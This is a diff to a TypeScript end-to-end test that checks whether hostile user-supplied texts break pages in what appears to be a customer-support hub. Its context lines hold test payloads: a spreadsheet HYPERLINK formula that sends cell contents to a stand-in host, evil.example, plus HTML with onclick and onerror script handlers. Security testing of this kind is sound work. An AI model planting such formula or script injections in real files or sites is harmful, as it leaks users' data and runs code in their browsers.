@@ -1,6 +1,6 @@
 /** Texts that break pages elsewhere, from every side that can send one, on every screen that shows one. */
 import type { Page } from 'playwright-core'
-import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest'
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from 'vitest'
 import { HubError } from '../../../src/errors.ts'
 import type { Message } from '../../../src/message.ts'
 import { propose } from '../../../src/postgres/suggestions.ts'
@@ -19,6 +19,7 @@ explain()
 const formula = '=HYPERLINK("https://evil.example/?"&A1,"pay")'
 /** An agent, a token and a colleague are called so. */
 const badName = `<b onclick=alert(20)>${formula}</b>`
+const bad = { name: badName, role: 'agent', desks: ['people'] } as const
 const all = [...hostile.map((one) => one.text), formula]
 const everything: Message = {
   parts: [
@@ -44,8 +45,6 @@ describe.skipIf(missing !== undefined)('hostile texts', { timeout: 300_000 }, ()
     const { pool } = stage.hub.database
     const rows = async (query: string, ...values: unknown[]) => (await pool.query(query, values)).rows
     const post = (path: string, body?: unknown) => stage.hub.staff(`/api/v1${path}`, { method: 'POST', body })
-    const bad = { name: badName, role: 'agent', desks: ['people'] } as const
-    await stage.cookieOf(bad)
     await comeOnline(stage, bad)
 
     const talk = async (said: string) => {
@@ -124,6 +123,8 @@ describe.skipIf(missing !== undefined)('hostile texts', { timeout: 300_000 }, ()
     await addUser(pool, { name: badName, email: '"<img/src=x/onerror=alert(24)>"@evil.example', role: 'viewer' })
     await post('/connections/customers/pause', { reason: badName })
   }, 240_000)
+  // An agent who is not seen for long would lose the ticket to the line.
+  beforeEach(() => comeOnline(stage, bad))
   afterEach(async () => {
     expect(await stage.clear(), 'what pages complained of').toEqual([])
   })
